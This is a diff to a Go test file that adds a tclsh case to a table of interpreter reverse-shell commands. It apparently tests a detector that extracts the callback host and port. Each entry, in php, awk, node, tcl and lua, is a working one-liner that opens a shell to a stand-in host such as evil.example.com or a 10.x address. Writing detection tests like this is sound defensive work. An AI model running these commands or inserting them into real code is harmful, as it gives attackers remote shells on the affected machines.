@@ -1004,6 +1004,7 @@ func TestInterpreterReverseShells(t *testing.T) {
 		{`php -r '$sock=fsockopen("evil.example.com",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, "php fsockopen", "evil.example.com", 4242},
 		{`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}' /dev/null`, "awk |&", "10.0.0.1", 4242},
 		{`node -e "var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4444,'10.0.0.4',function(){var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})"`, "node Socket.connect", "10.0.0.4", 4444},
+		{"tclsh <<'EOF'\nset s [socket 10.0.0.6 4444]\ngets $s c\nset e \"exec $c\"\nputs $s [eval $e]\nEOF", "tclsh socket", "10.0.0.6", 4444},
 		{`lua -e "local s=require('socket');local t=s.tcp();t:connect('10.0.0.5',4444);local r=t:receive();local f=io.popen(r,'r')"`, "lua connect", "10.0.0.5", 4444},
 	}
 	for _, tc := range cases {
